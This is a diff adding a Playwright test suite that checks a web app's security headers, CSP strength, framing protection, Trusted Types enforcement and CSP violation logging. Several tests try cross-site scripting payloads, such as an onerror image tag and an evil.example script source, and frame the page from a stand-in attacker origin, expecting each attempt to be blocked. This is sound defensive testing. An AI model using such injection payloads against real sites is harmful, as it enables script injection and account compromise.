@@ -1,0 +1,216 @@
+import { readFileSync } from 'node:fs';
+import { Version } from 'csp_evaluator/dist/csp.js';
+import { CspEvaluator } from 'csp_evaluator/dist/evaluator.js';
+import { Severity } from 'csp_evaluator/dist/finding.js';
+import { CspParser } from 'csp_evaluator/dist/parser.js';
+import { expect, freshPhone, test } from '../../support/fixtures.ts';
+import { beginCase, signIn } from '../../support/pages/agent.ts';
+import { evidence, runOf } from '../../support/run.ts';
+
+/** What every answer of ours says (reliability of the browser's side: HTML, Fetch and CSP standards). */
+const EVERYWHERE = {
+  'x-content-type-options': 'nosniff',
+  'strict-transport-security': 'max-age=63072000; includeSubDomains',
+  'cross-origin-opener-policy': 'same-origin',
+  'cross-origin-resource-policy': 'same-origin',
+  'x-frame-options': 'DENY',
+  'referrer-policy': 'strict-origin-when-cross-origin',
+};
+
+/** What Google's evaluator finds of medium severity or worse. */
+const findingsOf = (policy: string) =>
+  new CspEvaluator(new CspParser(policy).csp, Version.CSP3)
+    .evaluate()
+    // The stand-ins have no TLS: their hosts are listed with `http:`, which only `local` does.
+    .filter(
+      ({ severity, description }) =>
+        severity <= Severity.MEDIUM && !/only resources downloaded over HTTPS/.test(description),
+    )
+    .map(({ directive, description }) => `${directive}: ${description}`);
+
+/** The sources of a directive. */
+const sourcesOf = (policy: string, directive: string) =>
+  policy
+    .split('; ')
+    .find((text) => text.startsWith(`${directive} `))
+    ?.split(' ')
+    .slice(1) ?? [];
+
+/** Google is allowed on address pages alone, the vault on the card page alone. */
+function expectOnlyItsVendor(policy: string, path: string): void {
+  const { maps = '', vgs = '' } = runOf().origins;
+  const [isAddress, isCard] = [path.endsWith('/address'), path.endsWith('/card')];
+  const connect = sourcesOf(policy, 'connect-src');
+  expect([path, connect.includes(maps), connect.includes(vgs)]).toEqual([path, isAddress, isCard]);
+  expect([path, sourcesOf(policy, 'trusted-types').includes('*')]).toEqual([path, isAddress]);
+}
+
+test('every kind of page says what hardens it, keeps out of caches, and runs script by nonce and hash alone', async ({
+  page,
+  journey,
+}) => {
+  await journey.start('en');
+  await journey.toCard(freshPhone());
+  const paths = [
+    '/en',
+    '/en/onboarding/identity',
+    '/en/onboarding/address',
+    '/en/onboarding/payment',
+    '/en/onboarding/card',
+  ];
+  for (const path of [
+    ...paths,
+    '/en/onboarding/outcome',
+    '/en/assist/sign-in',
+    '/en/continue',
+    '/en/no-such-page',
+    '/partner',
+  ]) {
+    const answer = await page.request.get(path, { maxRedirects: 0 });
+    const said = answer.headers();
+    expect(said, path).toMatchObject(EVERYWHERE);
+    expect(said['cache-control'], path).toMatch(/no-store/);
+    expect(said['x-powered-by'], path).toBeUndefined();
+    expect(said['server'], path).toBeUndefined();
+    expect(said['set-cookie'], path).toBeUndefined();
+    expect(Object.keys(said).filter((name) => name.startsWith('access-control-'))).toEqual([]);
+    if ((await answer.body()).length > 0) expect(said['content-type'], path).toMatch(/^text\/html; charset=utf-8$/i);
+    if (answer.status() >= 300 && answer.status() < 400) continue;
+    const policy = said['content-security-policy'] ?? '';
+    expect(policy, path).toContain("default-src 'none'");
+    expect(policy, path).not.toContain('unsafe');
+    expect(findingsOf(policy), path).toEqual([]);
+    const isCard = path.endsWith('/card');
+    expect(policy.includes("require-trusted-types-for 'script'"), path).toBe(!isCard);
+    expectOnlyItsVendor(policy, path);
+    expect(said['cross-origin-embedder-policy'], path).toBe(isCard ? undefined : 'credentialless');
+    const scripts = [...(await answer.text()).matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag);
+    for (const tag of scripts) expect(tag, path).toMatch(/\bnonce="[^"]{20,}"/);
+    // The framework knows the hashes of the files that every page has; a page's own it misses, for the brackets in their names.
+    if (path !== '/partner')
+      expect(scripts.filter((tag) => tag.includes('integrity="sha256-')).length, path).toBeGreaterThan(2);
+  }
+});
+
+test('every other answer says what hardens it, too: files, what is not there, and what is refused', async ({
+  page,
+  request,
+}) => {
+  await page.goto('/en');
+  const script = await page.locator('script[src]').first().getAttribute('src');
+  const answers = [
+    ...[script ?? '', '/icon.svg', '/brand/theme.css', '/healthz', '/readyz', '/favicon.ico', '/brand/continue'].map(
+      (path) => request.get(path, { maxRedirects: 0 }),
+    ),
+    ...['/_next/static/none.js', '/_next/static/chunks', '/brand/none', '/%ff', '/en/../en'].map((path) =>
+      request.get(path),
+    ),
+    ...['/en', '/healthz', '/brand/logo'].map((path) => request.fetch(path, { method: 'PUT' })),
+    request.post('/en', { data: 'x' }),
+  ];
+  for (const answer of await Promise.all(answers)) {
+    const said = answer.headers();
+    const about = `${answer.status()} ${answer.url()}`;
+    const isFile = answer.url().includes('/_next/static/');
+    const strict = isFile ? undefined : EVERYWHERE['strict-transport-security'];
+    expect([about, said['strict-transport-security']]).toEqual([about, strict]);
+    expect([about, said['x-content-type-options']]).toEqual([about, 'nosniff']);
+    if (/html/.test(said['content-type'] ?? '') || answer.status() >= 400)
+      expect([about, said['content-security-policy']?.includes('frame-ancestors')]).toEqual([about, true]);
+  }
+});
+
+test('what is no page has its type and charset as well', async ({ page }) => {
+  for (const [path, type] of Object.entries({
+    '/icon.svg': 'image/svg+xml; charset=utf-8',
+    '/brand/theme.css': 'text/css; charset=utf-8',
+    '/healthz': 'text/plain;charset=UTF-8',
+  })) {
+    const said = (await page.request.get(path)).headers();
+    expect([path, said['content-type'], said['x-content-type-options']]).toEqual([path, type, 'nosniff']);
+  }
+});
+
+test('a page of ours is not opened, framed or read by another’s', async ({ page, browser, baseURL }) => {
+  const other = await (await browser.newContext()).newPage();
+  await other.route('https://evil.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/en"></iframe>` }),
+  );
+  await other.goto('https://evil.example/');
+  await expect.poll(() => other.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true);
+  await other.context().close();
+  await page.goto('/en');
+  expect(await page.evaluate(() => window.crossOriginIsolated)).toBe(true);
+});
+
+test.describe('script that gets into a page', () => {
+  test.use({ expectConsole: [/Trusted|TrustedScript|Content Security Policy|violates/] });
+
+  test('does not run, is not written into it, and is reported', async ({ page }) => {
+    await page.goto('/en/onboarding/identity');
+    const tried = await page.evaluate(() => {
+      const attempts: Record<string, () => void> = {
+        innerHTML: () => {
+          document.body.innerHTML = '<img src=x onerror="window.owned = true">';
+        },
+        src: () => {
+          document.createElement('script').src = 'https://evil.example/x.js';
+        },
+        handler: () => document.body.setAttribute('onclick', 'window.owned = true'),
+        policy: () =>
+          void (
+            window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
+          ).trustedTypes.createPolicy('default', {}),
+      };
+      return Object.entries(attempts).map(([name, attempt]) => {
+        try {
+          attempt();
+          return `${name} worked`;
+        } catch {
+          return `${name} refused`;
+        }
+      });
+    });
+    expect(tried).toEqual(['innerHTML refused', 'src refused', 'handler refused', 'policy refused']);
+    await page.locator('h1').click();
+    expect(await page.evaluate(() => 'owned' in window)).toBe(false);
+  });
+
+  test('is heard of in the log, as a rule’s name and a host', async ({ page, baseURL }) => {
+    const report = {
+      'csp-report': { 'effective-directive': 'script-src-elem', 'blocked-uri': 'https://evil.example/x?name=Maria' },
+    };
+    const headers = { 'content-type': 'application/csp-report', origin: baseURL ?? '' };
+    const answer = await page.request.post('/csp-report', { headers, data: JSON.stringify(report) });
+    expect(answer.status()).toBe(204);
+    const { log } = evidence(runOf().folder);
+    await expect
+      .poll(() => readFileSync(log, 'utf8'))
+      .toContain('"event":"policy.violated","directive":"script-src-elem","blocked":"evil.example"');
+  });
+});
+
+test('the console’s pages are hardened like the customers’', async ({ page }) => {
+  await signIn(page, 'ana');
+  await beginCase(page, freshPhone());
+  await page.waitForURL(/\/cases\/[^/]+\/identity$/);
+  const steps = page.url().replace(/[^/]*$/, '');
+  for (const path of ['/en/assist', `${steps}identity`, `${steps}address`, `${steps}payment`, `${steps}hand-over`]) {
+    const said = (await page.request.get(path, { maxRedirects: 0 })).headers();
+    expect(said, path).toMatchObject({ ...EVERYWHERE, 'cross-origin-embedder-policy': 'credentialless' });
+    expectOnlyItsVendor(said['content-security-policy'] ?? '', path);
+  }
+});
+
+test.describe('a file of a page that does not come', () => {
+  test.use({ expectConsole: [/ChunkLoadError|Loading chunk|Failed to load resource|Refused|Error/] });
+
+  test('leaves a page that says so, and none that is blank', async ({ page, journey }) => {
+    await journey.start('en');
+    await page.route(/identity|address|payment|chunks\/\d/, (route) =>
+      route.request().resourceType() === 'script' ? route.abort() : route.continue(),
+    );
+    await page.goto('/en/onboarding/identity');
+    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
+  });
+});
